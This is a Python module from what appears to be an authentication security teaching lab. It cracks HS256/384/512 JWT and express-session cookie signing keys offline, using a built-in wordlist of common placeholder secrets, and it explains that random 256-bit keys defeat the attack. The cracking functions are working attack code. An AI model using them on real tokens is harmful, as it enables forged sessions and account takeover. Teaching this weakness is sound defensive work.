"""Offline guessing of HMAC keys, from one token or one session cookie.

An HS256 token is `header.payload.HMAC(key, header.payload)`. Anyone holding one
token can test a guessed key on their own machine: recompute the HMAC and compare.
No request reaches the server, so no rate limit or lockout sees it. The same works
for express-session's cookie, `s:<id>.<HMAC(key, id)>`.

This is the attacker's tool from notebook 05, with a small built-in wordlist of the
secrets that tutorials and quick starts use (hashcat's jwt.secrets.list and rockyou
are far bigger). The defence is not a better wordlist but a key nobody chose:
`secrets.token_bytes(32)` leaves 2**256 candidates (see `years_to_search`).
"""

from __future__ import annotations

import base64
import hashlib
import hmac
from dataclasses import dataclass
from typing import Iterable
from urllib.parse import unquote

from authdemo.labs.forging import b64url_decode, decode_json

WORDLIST: tuple[str, ...] = (
    "secret", "password", "123456", "changeme", "admin", "jwt", "jwtsecret", "jwt_secret",
    "jwt-secret", "secretkey", "secret_key", "secret-key", "mysecret", "my_secret",
    "mysecretkey", "my_secret_key", "supersecret", "super_secret", "topsecret", "shhhhh",
    "keyboard cat", "key", "private", "privatekey", "your-256-bit-secret", "your_jwt_secret",
    "your_secret", "your-secret-key", "your_secret_key", "YOUR_SECRET_KEY", "test", "testing",
    "development", "dev", "default", "qwerty", "letmein", "hello", "token", "access",
    "secret123", "password123", "s3cr3t", "node", "express", "mern", "app", "session",
)
"""Common placeholder secrets. `"your_secret_key"` is the seed's; `"keyboard cat"` is
express-session's own documentation's; `"your-256-bit-secret"` is jwt.io's."""


@dataclass(frozen=True)
class CrackResult:
    secret: str | None
    """The key, or None if no word matched."""
    guesses: int
    """How many words were tried (all of them when nothing matched)."""


def crack_hs256(token: str, wordlist: Iterable[str] = WORDLIST) -> CrackResult:
    """Try each word as the HMAC key of an HS256/384/512 token, offline."""
    header_b64, payload_b64, signature_b64 = token.split(".")
    digest = {"HS256": hashlib.sha256, "HS384": hashlib.sha384,
              "HS512": hashlib.sha512}[decode_json(header_b64)["alg"]]
    message, target = f"{header_b64}.{payload_b64}".encode(), b64url_decode(signature_b64)
    return _search(wordlist, lambda key: hmac.new(key, message, digest).digest(), target)


def crack_session_cookie(cookie_value: str, wordlist: Iterable[str] = WORDLIST) -> CrackResult:
    """Try each word as express-session's cookie secret, from one `connect.sid` value."""
    sid, _, mac = unquote(cookie_value).removeprefix("s:").rpartition(".")
    target = base64.b64decode(mac + "=" * (-len(mac) % 4))
    return _search(wordlist, lambda key: hmac.new(key, sid.encode(), hashlib.sha256).digest(),
                   target)


def _search(wordlist: Iterable[str], mac_for, target: bytes) -> CrackResult:
    guesses = 0
    for word in wordlist:
        guesses += 1
        if hmac.compare_digest(mac_for(word.encode()), target):
            return CrackResult(word, guesses)
    return CrackResult(None, guesses)


def years_to_search(bits: int, guesses_per_second: float, fraction: float = 0.5) -> float:
    """Years to try `fraction` of a `bits`-bit keyspace (on average a key falls at half)."""
    return 2 ** bits * fraction / guesses_per_second / (365.25 * 24 * 3600)


__all__ = ["CrackResult", "WORDLIST", "crack_hs256", "crack_session_cookie", "years_to_search"]
